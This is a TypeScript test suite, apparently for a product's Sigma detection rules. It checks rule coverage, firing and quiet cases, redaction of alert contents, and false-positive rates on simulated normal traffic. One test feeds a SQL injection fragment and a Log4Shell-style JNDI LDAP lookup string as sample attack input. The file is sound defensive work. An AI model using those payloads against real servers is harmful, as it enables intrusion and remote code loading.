/** Each shipped rule is seen to speak of what it is for, and to be quiet beside it. */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { parse } from 'yaml';

import { createCompany, quietDay } from '../behaviour/index.ts';
import { CLASSES, eventOf, type ClassName, type TrafficEvent } from '../event.ts';
import { createSigma, readRules, type RuleText, type SigmaRule } from '../sigma/index.ts';

const HERE = new URL('./', import.meta.url);
const textOf = (name: string): string => readFileSync(new URL(name, HERE), 'utf8');
const names = readdirSync(HERE, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.yml')).toSorted(); // prettier-ignore
const shipped: RuleText[] = names.filter((name) => !name.endsWith('.test.yml')).map((name) => ({ name, text: textOf(name) })); // prettier-ignore

/** An event in few words: short names below, or a path of OCSF; `{n}` counts. */
type Short = Readonly<Record<string, unknown>>;
type Cases = Readonly<{ fires?: readonly (readonly Short[])[]; quiet?: readonly (readonly Short[])[] }>;

const NOON = Date.UTC(2026, 2, 11, 12);
const SHORT: Readonly<Record<string, string>> = {
  ip: 'src_endpoint.ip', to: 'dst_endpoint.ip', port: 'dst_endpoint.port', method: 'http_request.http_method', path: 'http_request.url.path',
  query: 'http_request.url.query_string', agent: 'http_request.user_agent', code: 'http_response.code', bytes: 'http_response.length',
  actor: 'actor.user.uid', session: 'actor.session.uid', action: 'strongroom.action', refused_by: 'strongroom.refused_by', purpose: 'strongroom.purpose',
  subjects: 'strongroom.subjects', name: 'query.hostname', type: 'query.type', rcode: 'rcode', status: 'status_id',
  activity: 'activity_id', title: 'finding_info.title', severity: 'severity_id', protocol: 'connection_info.protocol_name',
  direction: 'connection_info.direction_id', out: 'traffic.bytes_out', in: 'traffic.bytes_in', packets: 'traffic.packets_out',
}; // prettier-ignore
const OF_CASE = new Set(['times', 'every', 'after', 'hour', 'fill']);

function usual(of: ClassName): Record<string, unknown> {
  const from = { 'src_endpoint.ip': '198.51.100.7' };
  if (of === 'http') return { ...from, 'http_request.http_method': 'GET', 'http_request.url.path': '/', 'http_request.user_agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'http_response.code': 200, 'http_response.length': 5120 }; // prettier-ignore
  if (of === 'api') return { ...from, 'http_request.http_method': 'GET', 'http_request.url.path': '/healthz', 'http_request.user_agent': 'strongroom-sdk/1', 'http_response.code': 200 }; // prettier-ignore
  if (of === 'dns') return { 'src_endpoint.ip': '192.0.2.20', 'dst_endpoint.ip': '192.0.2.53', 'query.hostname': 'www.example.org', 'query.type': 'A', rcode: 'NOERROR' }; // prettier-ignore
  if (of === 'finding')
    return { ...from, 'dst_endpoint.ip': '192.0.2.10', 'finding_info.uid': '1:1:1', 'finding_info.title': 'Nothing' };
  return from;
}

/** The events of a case, in the order of their times. */
function eventsOf(of: ClassName, shorts: readonly Short[]): TrafficEvent[] {
  let time = NOON;
  const events: TrafficEvent[] = [];
  for (const short of shorts) {
    if (typeof short['hour'] === 'number') time = Date.UTC(2026, 2, 11, short['hour']);
    time += Number(short['after'] ?? 0) * 1000;
    for (let n = 0; n < Number(short['times'] ?? 1); n += 1) {
      const observed: Record<string, unknown> = {};
      const all = {
        ...usual(of),
        ...Object.fromEntries(Object.entries(short).map(([key, value]) => [SHORT[key] ?? key, value])),
      };
      for (const [path, value] of Object.entries(all)) if (!OF_CASE.has(path)) put(observed, path.startsWith('unmapped.') ? ['unmapped', path.slice('unmapped.'.length)] : path.split('.'), counted(value, n, short)); // prettier-ignore
      events.push(
        eventOf(
          { log_name: 'case', product: 'case' },
          { ...observed, class: of, uid: `e${events.length}`, time: Math.round(time) },
          Math.round(time),
        ),
      );
      time += Number(short['every'] ?? 0) * 1000;
    }
  }
  return events;
}

function counted(value: unknown, n: number, short: Short): unknown {
  if (typeof value !== 'string') return value;
  if (value === '{n}') return n + 1;
  const filled =
    typeof short['fill'] === 'number' && value === short['query'] ? value.padEnd(short['fill'], 'a') : value;
  return filled.replaceAll('{n}', String(n + 1));
}

function put(into: Record<string, unknown>, path: readonly string[], value: unknown): void {
  const [first = '', ...rest] = path;
  if (rest.length === 0) into[first] = value;
  else put((into[first] ??= {}) as Record<string, unknown>, rest, value);
}

const CLASS_OF = new Map(Object.entries(CLASSES).map(([name, uid]) => [uid as number, name as ClassName]));
const classOf = (rules: readonly SigmaRule[]): ClassName => CLASS_OF.get(rules.flatMap((rule) => (rule.kind === 'rule' ? rule.classes : []))[0] ?? 0) as ClassName; // prettier-ignore

test('there are forty rules at least, all are read without a word, and each has its techniques of ATT&CK', () => {
  const { rules, faults } = readRules(shipped);
  const sigma = createSigma({ rules, most: 1000 });

  assert.deepEqual(faults, []);
  const states = sigma.states();
  assert.ok(states.filter(({ state }) => state === 'running').length >= 40);
  assert.deepEqual(states.filter(({ state }) => state === 'idle' || state === 'suspended'), []); // prettier-ignore
  for (const { id, attack, description } of rules.filter((rule) =>
    states.some(({ id, state }) => id === rule.id && state === 'running'),
  )) {
    assert.ok(attack.length > 0 && description.length > 40, id);
  }
});

test('every rule has a case in which it speaks and one in which it is quiet, and does', () => {
  for (const { name, text } of shipped) {
    const { rules } = readRules([{ name, text }]);
    const speaking = createSigma({ rules, most: 10 }).states().filter(({ state }) => state === 'running'); // prettier-ignore
    assert.equal(speaking.length, 1, `${name} has one rule that speaks, and what that stands on`);
    const cases = parse(textOf(name.replace('.yml', '.test.yml'))) as Cases;
    assert.ok((cases.fires?.length ?? 0) > 0 && (cases.quiet?.length ?? 0) > 0, `${name} has cases of both kinds`);
    const alertsOf = (shorts: readonly Short[]): number => {
      const sigma = createSigma({ rules, most: 1000 });
      return eventsOf(classOf(rules), shorts).flatMap((event) => [...sigma.feed(event)]).length;
    };
    for (const shorts of cases.fires ?? [])
      assert.equal(alertsOf(shorts), 1, `${name} speaks once of ${JSON.stringify(shorts)}`);
    for (const shorts of cases.quiet ?? [])
      assert.equal(alertsOf(shorts), 0, `${name} is quiet about ${JSON.stringify(shorts)}`);
  }
});

test('what a rule says names nothing that stood in the event but who it was', () => {
  const { rules } = readRules(shipped);
  const sigma = createSigma({ rules, most: 1000 });
  const canary = 'anna.secret@example.org';
  const [attack] = eventsOf('http', [
    { path: '/find', query: `mail=${canary}' union select 1`, agent: `\${jndi:ldap://${canary}/a}` },
  ]);

  const alerts = sigma.feed(attack as TrafficEvent);

  assert.ok(alerts.length >= 2);
  assert.ok(!JSON.stringify(alerts).includes('secret'));
  assert.match(alerts.map(({ reason }) => reason).join(), /uri_decoded \(selection «joined»\)/u);
});

test('honest days, with what the Internet sends to everybody, stay within an alert a day', () => {
  const sigma = createSigma({ rules: readRules(shipped).rules, most: 10_000 });
  const company = createCompany(1);
  const days = [0, 1, 2];

  const alerts = days.flatMap((day) => quietDay(company, day).flatMap((event) => [...sigma.feed(event)]));

  assert.ok(alerts.length <= days.length, alerts.map(({ title, key }) => `${title} ${key}`).join('\n'));
});
